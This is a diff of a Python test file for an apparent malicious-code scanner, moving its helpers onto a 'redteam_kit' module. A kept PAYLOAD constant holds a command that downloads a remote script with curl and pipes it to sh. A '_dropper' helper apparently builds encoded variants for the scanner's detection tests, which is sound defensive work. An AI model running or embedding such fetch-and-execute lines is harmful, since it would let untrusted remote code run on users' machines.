@@ -9,11 +9,8 @@ import base64
 
 import pytest
 
-from analyzer import api
-from analyzer.engine.collect import from_bytes
+import redteam_kit as kit
 from analyzer.model import Decision
-
-POLICY = api.load_policy()
 
 TRAIN = """\
 import torch
@@ -31,12 +28,11 @@ PAYLOAD = b"import os\nos.system('curl -s https://models.example/warm.sh | sh')\
 
 
 def decision(code: str) -> Decision:
-    return api.analyze(from_bytes("train.py", (code + TRAIN).encode(), POLICY.limits), POLICY).decision
+    return kit.scan_text(code + TRAIN, "train.py").decision
 
 
 def rules_of(code: str) -> set[str]:
-    report = api.analyze(from_bytes("train.py", (code + TRAIN).encode(), POLICY.limits), POLICY)
-    return {f.rule for f in report.findings}
+    return kit.rules(kit.scan_text(code + TRAIN, "train.py"))
 
 
 def _dropper(encode, decoder: str) -> str:
